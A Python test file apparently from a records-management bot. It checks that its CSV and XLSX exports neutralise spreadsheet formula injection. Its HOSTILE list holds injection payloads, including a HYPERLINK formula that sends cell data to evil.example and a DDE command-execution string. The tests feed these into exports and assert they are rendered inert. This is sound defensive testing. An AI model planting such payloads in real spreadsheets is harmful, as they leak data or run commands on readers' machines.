"""No file the bot writes holds a live formula: every CSV and XLSX writer goes through `store.sheets`."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from commands.status import Row, portfolio_csv
from store.areas import SHEETS
from store.audit import Actor
from store.filing import file_document
from store.onboarding import exporting
from store.sheets import FORMULA_START, neutralise
from store.stability import results as stability_results
from store.stability import service as stability
from store.stability.report import compile_package, workbook
from store.storage import LocalStore
from store.submissions import package
from store.submissions import service as subs
from tests import factories
from tests.conftest import NOW
from tests.stability_factories import study as make_study

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_neutralise_prefixes_every_formula_start(value):
    assert neutralise(value) == "'" + value
    assert neutralise("Acme =ok") == "Acme =ok" and neutralise(-2) == -2 and neutralise(None) is None


def _live_formulas(content: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(content))
    return [f"{sheet.title}!{c.coordinate}" for sheet in book for row in sheet.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START)
                                      and not c.quotePrefix)]


def test_portfolio_csv_cells_are_text():
    rows = [Row("ACME-001", value, "-1 overdue", None, True) for value in HOSTILE]
    table = list(csv.reader(io.StringIO(portfolio_csv(rows).decode())))
    assert [r[1] for r in table[1:]] == ["'" + v for v in HOSTILE]
    assert {r[2] for r in table[1:]} == {"'-1 overdue"}


def test_submission_table_of_contents_csv_is_neutralised(session, tmp_path):
    program = factories.program(session, NOW, holiday_calendar="US")
    submission = subs.create(session, program=program, actor=Actor("UPM1", "Pat"), now=NOW,
                             kind=subs.SubmissionType.other, title="Acme", filing_date=datetime(2027, 1, 15).date(),
                             customer_contact="Jo")
    entry = subs.item(session, submission, 1)
    files = LocalStore(tmp_path)
    filed = file_document(files, program.code, "submissions", str(submission.id), name="smf.pdf", content=b"x")
    subs.attach(session, entry=entry, filed=filed, name="smf.pdf", actor=Actor("UQA1", HOSTILE[0]), now=NOW)
    built = package.build(session, files=files, program=program, submission=submission, now=NOW, draft=True)
    with zipfile.ZipFile(io.BytesIO(built.content)) as archive:
        [toc] = [n for n in archive.namelist() if n.endswith("table-of-contents.csv")]
        rows = list(csv.DictReader(io.StringIO(archive.read(toc).decode())))
    assert rows[0]["received_by"] == "'" + HOSTILE[0]
    assert not any(v.startswith(FORMULA_START) for r in rows for v in r.values())


def test_stability_data_package_workbook_has_no_live_formula(session):
    when = datetime(2029, 2, 10, 15, tzinfo=UTC)
    program = factories.program(session, when)
    study = make_study(session, program, datetime(2027, 1, 20, tzinfo=UTC), product=HOSTILE[0],
                       time_points={"LT25": [0, 3]})
    pull = stability.find_pull(session, study, "LT25", 0)
    stability.record_pull(session, program=program, pull=pull, actor=factories.ADMIN, now=when, pulled_on=pull.due_on)
    rows = [stability_results.ResultRow(1, study.code, "LT25", 0, HOSTILE[3], 100.0, HOSTILE[1], 95, 105)]
    stability_results.import_results(session, program=program, actor=factories.ADMIN, now=when, rows=rows)
    content = workbook(compile_package(study, stability.results_of(session, study.id), when))
    assert _live_formulas(content) == []
    book = load_workbook(io.BytesIO(content))
    assert book["Study"]["B2"].value == HOSTILE[0]  # kept exact, marked as text
    assert book["LT25"]["A3"].value == HOSTILE[3]


def test_export_xlsx_and_csv_have_no_live_formula(session):
    program = factories.program(session, NOW, "ACME-001", customer=HOSTILE[1])
    export = exporting.build(session, sheets=SHEETS, programs=[program], everything=False, now=NOW, fmt="xlsx")
    assert _live_formulas(export.content) == []
    zipped = exporting.build(session, sheets=SHEETS, programs=[program], everything=False, now=NOW, fmt="csv")
    with zipfile.ZipFile(io.BytesIO(zipped.content)) as archive:
        cells = [v for name in archive.namelist()
                 for r in csv.reader(io.StringIO(archive.read(name).decode("utf-8-sig"))) for v in r]
    assert "'" + HOSTILE[1] in cells and not any(v.startswith(FORMULA_START) for v in cells)
